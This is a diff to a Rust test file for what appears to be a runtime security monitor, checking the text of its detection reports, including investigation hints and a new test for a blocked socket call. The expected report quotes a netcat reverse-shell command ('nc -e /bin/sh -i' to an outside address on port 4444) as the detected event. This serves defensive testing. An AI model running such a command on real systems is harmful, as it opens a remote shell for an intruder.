@@ -1,3 +1,5 @@
+use portcullis_proto::v1::Identification;
+
 use crate::support::*;
 
 fn report(signal: portcullis_proto::v1::Signal) -> String {
@@ -40,7 +42,7 @@ Who
 
 Command
   argv          nc -e '/bin/sh -i' 203.0.113.7 4444
-                (read before the exec was final: another thread could have changed it)
+                (read where the process could have changed it)
   path given    /tmp/nc
   file          /usr/bin/nc.openbsd
   where         temporary_directory, upper_layer
@@ -67,6 +69,8 @@ Verdict
 Next
   is this usual for the workload?
     portcullis signals list --tool nc --image docker.io/library/web:1
+  what did this process and its ancestors do before? (signals 3, 5)
+    portcullis signals get 5
   what else happened around then?
     portcullis signals list --since 2023-11-14T21:58:20Z --until 2023-11-14T22:28:20Z --oldest-first
   contain it, if it is not
@@ -87,6 +91,17 @@ fn truncation_and_doubt_are_said() {
     for said in ["4444 …", "5 of 900 arguments", "…/usr/bin/nc.openbsd", "(older ancestors were not recorded)"] {
         assert!(report.contains(said), "{said:?} is missing in {report}");
     }
+}
+
+#[test]
+fn a_socket_is_no_execution() {
+    let mut signal = signal(7);
+    signal.identified_by = vec![Identification::Socket.into()];
+    let process = signal.process.as_mut().unwrap();
+    (process.filename, process.invoked_name) = (String::new(), String::new());
+    let report = report(signal);
+    assert!(report.contains("blocked: the system call failed with EPERM\n"), "{report}");
+    assert!(!report.contains("path given") && !report.contains("invoked name"), "{report}");
 }
 
 #[test]
